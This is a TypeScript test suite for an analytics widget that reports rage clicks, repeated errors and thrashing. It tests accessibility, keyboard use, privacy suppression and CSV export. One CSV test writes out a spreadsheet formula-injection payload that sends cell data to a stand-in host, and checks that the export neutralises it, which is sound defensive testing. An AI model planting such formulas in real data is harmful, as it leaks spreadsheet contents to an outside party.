import { expect } from 'chai';
import { expect as wcExpect, fixture, html } from '@open-wc/testing';
import { sendKeys, sendMouse } from '@web/test-runner-commands';
import '../../widgets/fp-friction/fp-friction.ts';
import type { FpFriction, FrictionClick } from '../../widgets/fp-friction/fp-friction.ts';
import { fixtureStore, imageLabel, settled, tableText } from './widget-helpers.ts';

const click = (user: string, timestamp: string, target: string, x: number, y: number) => ({ event: '$click', user_id: user, timestamp, properties: { target, x, y } });
const error = (user: string, timestamp: string, message: string) => ({ event: '$error', user_id: user, timestamp, properties: { type: 'Error', message } });

const events = [
  // a: two bursts of 3 clicks on button#save (each within 1 s and 30 px of its first), then the same error 3 times.
  click('a', '2026-11-27T10:00:00.000Z', 'button#save', 100, 100),
  click('a', '2026-11-27T10:00:00.300Z', 'button#save', 105, 100),
  click('a', '2026-11-27T10:00:00.600Z', 'button#save', 100, 110),
  click('a', '2026-11-27T10:00:05.000Z', 'button#save', 100, 100),
  click('a', '2026-11-27T10:00:05.200Z', 'button#save', 100, 100),
  click('a', '2026-11-27T10:00:05.400Z', 'button#save', 100, 100),
  error('a', '2026-11-27T10:01:00Z', 'Request failed with status 500'),
  error('a', '2026-11-27T10:02:00Z', 'Request failed with status 502'),
  error('a', '2026-11-27T10:03:00Z', 'Request failed with status 503'),
  // b: one burst on button#save, one on a.nav.
  click('b', '2026-11-27T12:00:00.000Z', 'button#save', 100, 100),
  click('b', '2026-11-27T12:00:00.200Z', 'button#save', 100, 100),
  click('b', '2026-11-27T12:00:00.400Z', 'button#save', 100, 100),
  click('b', '2026-11-27T12:00:10.000Z', 'a.nav', 20, 20),
  click('b', '2026-11-27T12:00:10.200Z', 'a.nav', 20, 20),
  click('b', '2026-11-27T12:00:10.400Z', 'a.nav', 20, 20),
  // c: apply_filter 5 times in 40 s (thrashing); the error twice in that session, a third time 39 minutes later (a new session).
  ...[0, 10, 20, 30, 40].map((s) => ({ event: 'apply_filter', user_id: 'c', timestamp: `2026-11-28T08:00:${String(s).padStart(2, '0')}Z` })),
  error('c', '2026-11-28T09:00:00Z', 'Request failed with status 500'),
  error('c', '2026-11-28T09:01:00Z', 'Request failed with status 504'),
  error('c', '2026-11-28T09:40:00Z', 'Request failed with status 503'),
];

const REQUEST = 'Request failed with status #';

async function friction(properties: Partial<FpFriction>, options = {}): Promise<FpFriction> {
  const store = await fixtureStore(events, options);
  const element = await fixture<FpFriction>(html`<fp-friction label="Friction" .source=${store} from="2026-11-26" to="2026-11-28"></fp-friction>`);
  Object.assign(element, properties);
  await settled(element);
  return element;
}

const rows = (element: FpFriction) => [...element.shadowRoot!.querySelectorAll<HTMLButtonElement>('button[part="row"]')];
const spoken = (row: Element) => row.textContent!.replace(/\s+/g, ' ').trim();

describe('fp-friction', () => {
  it('is defined', () => {
    expect(customElements.get('fp-friction')).to.not.equal(undefined);
  });

  it('is accessible', async () => {
    const element = await friction({});
    await wcExpect(element).to.be.accessible();
  });

  it('shows the exact numbers in its hidden table and sums them up for screen readers', async () => {
    const element = await friction({});
    expect(element.status).to.equal('ready');
    expect(tableText(element)).to.deep.equal([
      ['Signal', 'Target, message or event', 'Count', 'Users'],
      ['Rage clicks', 'button#save', '3', '2'],
      ['Rage clicks', 'a.nav', '1', '1'],
      ['Repeated errors', REQUEST, '1', '1'],
      ['Thrashing', 'apply_filter', '1', '1'],
    ]);
    expect(imageLabel(element)).to.equal(`4 rage-click bursts on 2 targets, most on button#save; 1 session repeated ${REQUEST}; 1 thrashing burst of apply_filter.`);
    expect(rows(element).map(spoken)).to.deep.equal([
      'button#save, 3 bursts, 2 users',
      'a.nav, 1 burst, 1 user',
      `${REQUEST}, 1 session, 1 user`,
      'apply_filter, 1 burst, 1 user',
    ]);
  });

  it('queries again when an attribute changes', async () => {
    const element = await friction({});
    // c's third error joins the session of the other two.
    element.setAttribute('gap-minutes', '60');
    await settled(element);
    expect(tableText(element)[3]).to.deep.equal(['Repeated errors', REQUEST, '2', '2']);
    element.setAttribute('to', '2026-11-27');
    await settled(element);
    expect(tableText(element).slice(1)).to.deep.equal([
      ['Rage clicks', 'button#save', '3', '2'],
      ['Rage clicks', 'a.nav', '1', '1'],
      ['Repeated errors', REQUEST, '1', '1'],
    ]);
    expect(element.shadowRoot!.textContent).to.contain('No thrashing in this range');
    expect(imageLabel(element)).to.equal(`4 rage-click bursts on 2 targets, most on button#save; 1 session repeated ${REQUEST}; no thrashing.`);
  });

  it('queries again when a threshold changes', async () => {
    const element = await friction({});
    // No burst has 4 clicks; c's first session has the error twice.
    element.rageClicks = { clicks: 4 };
    element.repeatedErrors = { count: 2 };
    await settled(element);
    expect(tableText(element).slice(1)).to.deep.equal([
      ['Repeated errors', REQUEST, '2', '2'],
      ['Thrashing', 'apply_filter', '1', '1'],
    ]);
    expect(element.shadowRoot!.textContent).to.contain('No rage clicks in this range');
    expect(imageLabel(element)).to.equal(`No rage clicks; 2 sessions repeated ${REQUEST}; 1 thrashing burst of apply_filter.`);
  });

  it('tells the page which row was clicked', async () => {
    const element = await friction({});
    const box = rows(element)[3]!.getBoundingClientRect();
    const clicked = new Promise<FrictionClick>((resolve) => element.addEventListener('fp-friction-click', (e) => resolve(e.detail)));
    await sendMouse({ type: 'click', position: [Math.round(box.left + 10), Math.round(box.top + box.height / 2)] });
    expect(await clicked).to.deep.equal({ signal: 'thrashing', key: 'apply_filter', count: 1, users: 1 });
  });

  it('lets the keyboard reach and choose every row', async () => {
    const element = await friction({});
    const chosen: FrictionClick[] = [];
    element.addEventListener('fp-friction-click', (e) => chosen.push(e.detail));
    element.shadowRoot!.querySelector<HTMLButtonElement>('button[part="download"]')!.focus();
    await sendKeys({ press: 'Tab' });
    expect(element.shadowRoot!.activeElement).to.equal(rows(element)[0]);
    await sendKeys({ press: 'Enter' });
    await sendKeys({ press: 'Tab' });
    await sendKeys({ press: 'Tab' });
    await sendKeys({ press: 'Space' });
    expect(chosen).to.deep.equal([
      { signal: 'rageClick', key: 'button#save', count: 3, users: 2 },
      { signal: 'repeatedError', key: REQUEST, count: 1, users: 1 },
    ]);
  });

  it('says that no signal was found, rather than "No data", when no list has a row', async () => {
    // Users a and b clicked and failed, but never in a burst or three times in a session.
    const store = await fixtureStore([
      click('a', '2026-11-27T10:00:00Z', 'button#save', 100, 100),
      click('a', '2026-11-27T10:00:05Z', 'button#save', 100, 100),
      error('b', '2026-11-27T11:00:00Z', 'Request failed with status 500'),
      { event: 'apply_filter', user_id: 'b', timestamp: '2026-11-27T11:01:00Z' },
    ]);
    const element = await fixture<FpFriction>(html`<fp-friction label="Friction" .source=${store} from="2026-11-26" to="2026-11-28"></fp-friction>`);
    expect(await settled(element)).to.equal('empty');
    const state = element.shadowRoot!.querySelector('.state')!;
    expect(state.textContent!.trim()).to.equal('No rage clicks, repeated errors or thrashing in this range.');
    expect(state.getAttribute('role')).to.equal('status');
    // A range without any events has no signal either.
    element.setAttribute('from', '2026-10-01');
    element.setAttribute('to', '2026-10-03');
    expect(await settled(element)).to.equal('empty');
    expect(element.shadowRoot!.textContent).to.contain('No rage clicks, repeated errors or thrashing in this range.');
    expect(element.shadowRoot!.textContent).to.not.contain('No data');
  });

  it("downloads CSV in which a target that reads as a formula is neutralised with a '", async () => {
    const target = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const store = await fixtureStore([0, 200, 400].map((ms) => click('a', `2026-11-27T10:00:00.${String(ms).padStart(3, '0')}Z`, target, 10, 10)));
    const element = await fixture<FpFriction>(html`<fp-friction label="Friction" .source=${store} from="2026-11-26" to="2026-11-28"></fp-friction>`);
    await settled(element);
    const blobs: Blob[] = [];
    const names: string[] = [];
    const realCreate = URL.createObjectURL;
    const realClick = HTMLAnchorElement.prototype.click;
    URL.createObjectURL = (blob: Blob | MediaSource) => {
      blobs.push(blob as Blob);
      return realCreate(blob);
    };
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      names.push(this.download);
    };
    try {
      element.shadowRoot!.querySelector<HTMLButtonElement>('button[part="download"]')!.click();
    } finally {
      URL.createObjectURL = realCreate;
      HTMLAnchorElement.prototype.click = realClick;
    }
    expect(names).to.deep.equal(['friction.csv']);
    expect(await blobs[0]!.text()).to.equal(
      `Signal,"Target, message or event",Count,Users\r\nRage clicks,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",1,1\r\n`,
    );
  });

  it('shows the error, naming the field, for a bad attribute or threshold', async () => {
    const element = await friction({});
    element.setAttribute('max-minutes', '10');
    await settled(element);
    expect(element.status).to.equal('error');
    expect(element.shadowRoot!.querySelector('[role="alert"]')!.textContent).to.contain('maxMinutes: must not be shorter than gapMinutes');
    element.removeAttribute('max-minutes');
    element.thrashing = { count: 1 };
    await settled(element);
    expect(element.shadowRoot!.querySelector('[role="alert"]')!.textContent).to.contain("thrashing.count: must be a whole number from 2 to 100000, got '1'");
  });

  it('shows suppressed counts as < k', async () => {
    const element = await friction({}, { minGroupSize: 2 });
    expect(tableText(element).slice(1)).to.deep.equal([
      ['Rage clicks', 'button#save', '3', '2'],
      ['Rage clicks', 'a.nav', '1', '< k'],
      ['Repeated errors', REQUEST, '1', '< k'],
      ['Thrashing', 'apply_filter', '1', '< k'],
    ]);
    expect(spoken(rows(element)[1]!)).to.equal('a.nav, 1 burst, < k users');
    expect(element.shadowRoot!.textContent).to.contain('Groups smaller than the privacy threshold are shown as < k.');
  });
});
